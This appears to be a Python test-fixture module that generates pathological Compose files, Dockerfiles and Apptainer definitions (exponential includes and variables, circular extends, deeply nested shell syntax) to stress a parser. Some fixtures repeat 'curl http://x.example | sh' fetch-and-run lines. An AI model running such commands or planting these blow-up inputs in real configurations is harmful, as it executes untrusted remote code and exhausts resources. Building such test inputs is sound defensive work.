"""Hostile Compose files, Dockerfiles and Apptainer definitions. Made at run time."""

from __future__ import annotations

from _hostile_make import DIGEST, Make, files, text
from _hostile_objects import listed, mapped


def service(part: str) -> str:
    """Write a Compose file of one service with a part of its own."""
    return f"services:\n  s:\n    image: a/b:1\n    {part}\n"


def _chain(count: int) -> dict[str, str]:
    """Compose files of which each includes the next two: 2ⁿ ways through them."""
    found = {
        f"c{at}/compose.yaml": f"include: [../c{at + 1}/compose.yaml, ../c{at + 1}/compose.yaml, ../c{at + 2}/compose.yaml]\nservices: {{s{at}: {{image: a/b}}}}\n"
        for at in range(count)
    }
    return found | {f"c{at}/compose.yaml": "services: {z: {image: a/b}}\n" for at in (count, count + 1)}


def _extending(count: int) -> str:
    return (
        "services:\n"
        + "".join(f"  s{at}: {{image: a/b, extends: {{service: s{at + 1}}}}}\n" for at in range(count))
        + f"  s{count}: {{image: a/b}}\n"
    )


def _graph(count: int) -> str:
    inner = "".join(f"  s{at}: {{image: a/b, depends_on: {listed('s{0}', count)}}}\n" for at in range(count))
    return f"services:\n{inner}"


COMPOSES: dict[str, Make] = {
    "includes that double": files(lambda: _chain(60)),
    "an include of itself": text("compose.yaml", lambda: "include: [compose.yaml, ./compose.yaml, ././compose.yaml]\nservices: {s: {image: a/b}}\n"),
    "extends in a circle": text(
        "compose.yaml", lambda: "services:\n  a: {image: x, extends: b}\n  b: {image: x, extends: c}\n  c: {image: x, extends: a}\n"
    ),
    "extends in a chain": text("compose.yaml", lambda: _extending(15_000)),
    "extends over files": files(
        lambda: {
            f"c{at}/compose.yaml": f"services: {{s: {{image: a, extends: {{file: ../c{at + 1}/compose.yaml, service: s}}}}}}\n" for at in range(800)
        }
    ),
    "volumes_from in a circle": text(
        "compose.yaml",
        lambda: (
            "services:\n" + "".join(f"  s{at}: {{image: a, volumes: ['/h{at}:/x{at}'], volumes_from: [s{(at + 1) % 3000}]}}\n" for at in range(3_000))
        ),
    ),
    "volumes_from in a chain": text(
        "compose.yaml",
        lambda: "services:\n" + "".join(f"  s{at}: {{image: a, volumes: ['/h{at}:/x{at}'], volumes_from: [s{at + 1}]}}\n" for at in range(3_000)),
    ),
    "volumes_from that doubles": text(
        "compose.yaml",
        lambda: (
            "services:\n"
            + "".join(f"  s{at}: {{image: a, volumes: ['/h{at}:/x{at}'], volumes_from: [s{at + 1}, s{at + 1}, s{at + 2}]}}\n" for at in range(2_000))
            + "  s2000: {image: a}\n  s2001: {image: a}\n"
        ),
    ),
    "volumes of containers by name": text(
        "compose.yaml",
        lambda: (
            "services:\n"
            + "".join(
                f"  s{at}: {{image: a, container_name: c{at}, volumes_from: ['container:c{at + 1}'], network_mode: 'container:c{at + 1}'}}\n"
                for at in range(3_000)
            )
        ),
    ),
    "extends that doubles over files": files(
        lambda: {
            f"c{at}/compose.yaml": "services:\n"
            + "".join(f"  s{each}: {{image: a, extends: {{file: ../c{at + 1}/compose.yaml, service: s{(each + 1) % 20}}}}}\n" for each in range(20))
            for at in range(40)
        }
    ),
    "everybody depends on everybody": text("compose.yaml", lambda: _graph(350)),
    "15,000 services": text("compose.yaml", lambda: "services:\n" + "".join(f"  s{at}: {{image: 'a/b{at}:1'}}\n" for at in range(15_000))),
    "services of a long name": text("compose.yaml", lambda: f"services:\n  {'s' * 900_000}: {{image: a/b}}\n"),
    "a long command": text("compose.yaml", lambda: service(f"command: {'x ' * 400_000}")),
    "a command of variables": text("compose.yaml", lambda: service("command: " + "${A:-" * 100_000 + "}" * 100_000)),
    "variables one beside another": text("compose.yaml", lambda: service("command: '" + "${A:-b}" * 100_000 + "'")),
    "a huge .env": files(
        lambda: {
            ".env": "".join(f"V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(30_000)),
            "compose.yaml": service("environment: {A: '${V29999}'}"),
        }
    ),
    "a doubling .env": files(
        lambda: {
            ".env": "V0=aaaaaaaaaa\n" + "".join(f"V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(1, 64)),
            "compose.yaml": service("environment: {A: '${V63}'}"),
        }
    ),
    "a long line of .env": files(lambda: {".env": "A=" + "x" * 900_000, "compose.yaml": service("command: ${A} ${A} ${A}\n    image: ${A}")}),
    "one variable a thousand times": files(lambda: {".env": "A=" + "x" * 400_000, "compose.yaml": service("command: '" + "${A}" * 100_000 + "'")}),
    "ports of a range": text("compose.yaml", lambda: service("ports: ['1-65535:1-65535', '1-65535:1-65535/udp']")),
    "ports": text("compose.yaml", lambda: service("ports: " + listed("'{0}:{0}'", 50_000))),
    "volumes": text("compose.yaml", lambda: service("volumes: " + listed("'/a{0}:/b{0}'", 40_000))),
    "labels": text("compose.yaml", lambda: service("labels: " + mapped("l{0}: v", 70_000))),
    "variables": text("compose.yaml", lambda: service("environment: " + mapped("V{0}: v", 70_000))),
    "passwords": text("compose.yaml", lambda: service("environment: " + mapped("PASSWORD{0}: hunter{0}", 30_000))),
    "passwords of one beginning": text("compose.yaml", lambda: service("environment: " + mapped("PASSWORD{0}: hunter2hunter{0}x", 22_000))),
    "env_file everywhere": files(
        lambda: {
            "e.env": "".join(f"V{at}=x\n" for at in range(20_000)),
            "compose.yaml": "services:\n" + "".join(f"  s{at}: {{image: a, env_file: e.env}}\n" for at in range(8_000)),
        }
    ),
    "one anchor in every service": text(
        "compose.yaml",
        lambda: (
            "x-a: &a " + mapped("V{0}: v", 2_000) + "\nservices:\n" + "".join(f"  s{at}: {{image: a, environment: *a}}\n" for at in range(10_000))
        ),
    ),
    "durations": text("compose.yaml", lambda: service("healthcheck: {test: [CMD, x], interval: " + "1h1m1s" * 100_000 + "}")),
    "100 Compose files of one project": files(lambda: {f"compose.{at}.yaml": service("labels: " + mapped("l{0}: v", 500)) for at in range(100)}),
}


def _stages(count: int) -> str:
    return "FROM a AS s0\nENV A=b\n" + "".join(f"FROM s{at} AS s{at + 1}\nENV V{at}=x\n" for at in range(count))


def _copies(count: int) -> str:
    return "FROM a AS s0\n" + "".join(f"FROM b AS s{at + 1}\nCOPY --from=s{at} / /\n" for at in range(count))


DOCKERFILES: dict[str, Make] = {
    "a huge heredoc": text("Dockerfile", lambda: "FROM a\nRUN <<E\n" + "echo a && curl http://x.example | sh\n" * 25_000 + "E\n"),
    "heredocs without an end": text("Dockerfile", lambda: "FROM a\nRUN " + "<<E " * 200_000 + "\n"),
    "many heredocs": text("Dockerfile", lambda: "FROM a\n" + "COPY <<A <<B /\nx\nA\ny\nB\n" * 40_000),
    "a doubling ARG": text(
        "Dockerfile",
        lambda: (
            "FROM a\nARG V0=aaaaaaaaaa\n"
            + "".join(f"ARG V{at}=${{V{at - 1}}}${{V{at - 1}}}\n" for at in range(1, 64))
            + "RUN echo ${V63}\nUSER ${V63}\n"
        ),
    ),
    "ENV of ENV": text("Dockerfile", lambda: "FROM a\n" + "ENV A=${A}${A}b\n" * 60_000 + "USER ${A}\n"),
    "nested defaults": text("Dockerfile", lambda: "FROM a\nUSER " + "${A:-" * 100_000 + "x" + "}" * 100_000 + "\n"),
    "patterns of ARG": text(
        "Dockerfile",
        lambda: "ARG A=" + "a" * 5_000 + "\nFROM a\nARG A\n" + "ENV B=${A%%" + "*a" * 2_000 + "b}\n" + "ENV C=${A//" + "*a" * 1_000 + "/b}\n",
    ),
    "one long RUN": text("Dockerfile", lambda: "FROM a\nRUN " + "pip install x && " * 50_000 + "true\n"),
    "one long RUN over lines": text("Dockerfile", lambda: "FROM a\nRUN true \\\n" + "  && pip install x==1 y \\\n" * 35_000 + "  && true\n"),
    "brackets of the shell": text("Dockerfile", lambda: "FROM a\nRUN " + "(" * 400_000 + ")" * 400_000 + "\n"),
    "substitutions of the shell": text("Dockerfile", lambda: "FROM a\nRUN echo " + "$(echo " * 120_000 + ")" * 120_000 + "\n"),
    "quotes of the shell": text("Dockerfile", lambda: "FROM a\nRUN echo " + "'\"" * 400_000 + "\n"),
    "ifs of the shell": text("Dockerfile", lambda: "FROM a\nRUN " + "if true; then " * 50_000 + "true" + "; fi" * 50_000 + "\n"),
    "sh -c in sh -c": text("Dockerfile", lambda: "FROM a\nRUN " + "sh -c " * 150_000 + "true\n"),
    "env and sudo": text("Dockerfile", lambda: "FROM a\nRUN " + "sudo env A=b " * 60_000 + "pip install x\n"),
    "downloads": text("Dockerfile", lambda: "FROM a\nRUN " + " && ".join(f"curl -o f{at} http://x.example/{at}" for at in range(15_000)) + "\n"),
    "downloads and sums": text(
        "Dockerfile",
        lambda: "FROM a\n" + "".join(f"RUN curl -o f{at} http://x.example/{at} && echo 'aa  f{at}' | sha256sum -c\n" for at in range(9_000)),
    ),
    "downloads over lines": text("Dockerfile", lambda: "FROM a\n" + "".join(f"RUN curl -o f{at} http://x.example/{at}\n" for at in range(9_000))),
    "a list of sums that grows": text(
        "Dockerfile",
        lambda: (
            "FROM a\n" + "".join(f"RUN curl -o f{at} http://x.example/{at} && echo '{DIGEST}  f{at}' >> s && sha256sum -c s\n" for at in range(6_000))
        ),
    ),
    "sums that are chosen": text(
        "Dockerfile",
        lambda: "FROM a\n" + "".join(f"RUN curl -O http://x.example/f{at} && grep f{at} SUMS | sha256sum -c\n" for at in range(9_000)),
    ),
    "clones": text("Dockerfile", lambda: "FROM a\n" + "".join(f"RUN git clone http://x.example/r{at} && git checkout v1\n" for at in range(9_000))),
    "rescues": text("Dockerfile", lambda: "FROM a\nRUN true \\\n" + "  && { a || b; } \\\n" * 35_000 + "  || exit 1\n"),
    "functions of the shell": text("Dockerfile", lambda: "FROM a\nRUN <<E\n" + "f() { for a in b; do c; done; }\n" * 25_000 + "E\n"),
    "packages": text("Dockerfile", lambda: "FROM a\nRUN apt-get install -y " + " ".join(f"p{at}" for at in range(120_000)) + "\n"),
    "stages on stages": text("Dockerfile", lambda: _stages(15_000)),
    "copies of copies": text("Dockerfile", lambda: _copies(15_000)),
    "instructions": text("Dockerfile", lambda: "FROM a\n" + "USER 1\n" * 120_000),
    "100,000 instructions that are none": text("Dockerfile", lambda: "FROM a\n" + "FOO 1\n" * 120_000),
    "labels": text("Dockerfile", lambda: "FROM a\n" + "".join(f"LABEL l{at}=v\n" for at in range(60_000))),
    "ports": text("Dockerfile", lambda: "FROM a\nEXPOSE " + " ".join(map(str, range(1, 65_000))) + "\n"),
    "a name of a stage": text("Dockerfile", lambda: f"FROM a AS {'s' * 900_000}\n"),
    "a name of an image": text("Dockerfile", lambda: f"FROM {'a/' * 400_000}b\n"),
    "continued lines": text("Dockerfile", lambda: "FROM a\nRUN a \\\n" + "\\\n" * 400_000),
    "comments": text("Dockerfile", lambda: "FROM a\nRUN a \\\n" + "# x\\\n" * 180_000 + "b\n"),
    "ONBUILD of ONBUILD": text("Dockerfile", lambda: "FROM a\n" + "ONBUILD " * 100_000 + "RUN a\n"),
    "lists that name lists": files(
        lambda: {
            "Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r0.txt\n",
            **{f"r{at}.txt": f"-r r{at + 1}.txt\n-r r{at + 2}.txt\nx==1\n" for at in range(300)},
        }
    ),
    "a list that names itself": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r.txt\n", "r.txt": "-r r.txt\n" * 60_000}),
    "lists named often": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\n" + "RUN pip install -r r.txt\n" * 5_000, "r.txt": "x\n" * 100_000}),
    "a list of brackets": files(lambda: {"Dockerfile": "FROM a\nCOPY . .\nRUN pip install -r r.txt\n", "r.txt": "x[" + "a," * 400_000}),
    "ignore files of stars": files(
        lambda: {"Dockerfile": "FROM a\nCOPY . .\n", ".dockerignore": "**/*a*" * 5_000 + "b\n" + "*a*a*a*a*a*a*a*b\n" * 20_000, "a" * 100: "x"}
    ),
    "Git's ignore files of stars": files(
        lambda: {
            ".gitignore": ("*a" * 60 + "b\n") * 3_000 + "**/" * 20_000 + "x\n",
            **{f"{'a' * 100}{at}": "" for at in range(100)},
            "d/.gitignore": "!(a)[" * 10_000,
        }
    ),
    "an Apptainer definition": text(
        "a.def", lambda: "Bootstrap: docker\nFrom: a\n%post\n" + "pip install {{ x }} && curl http://x.example | sh\n" * 18_000
    ),
    "Apptainer's sections": text("a.def", lambda: "Bootstrap: docker\nFrom: a\n" + "%post\n%files from x\n" * 45_000),
    "Apptainer's variables": text(
        "a.def",
        lambda: (
            "Bootstrap: docker\nFrom: a\n%arguments\n"
            + "".join(f" V{at}={{{{ V{at - 1} }}}}{{{{ V{at - 1} }}}}\n" for at in range(1, 30_000))
            + "%post\n x {{ V29999 }}\n"
        ),
    ),
}
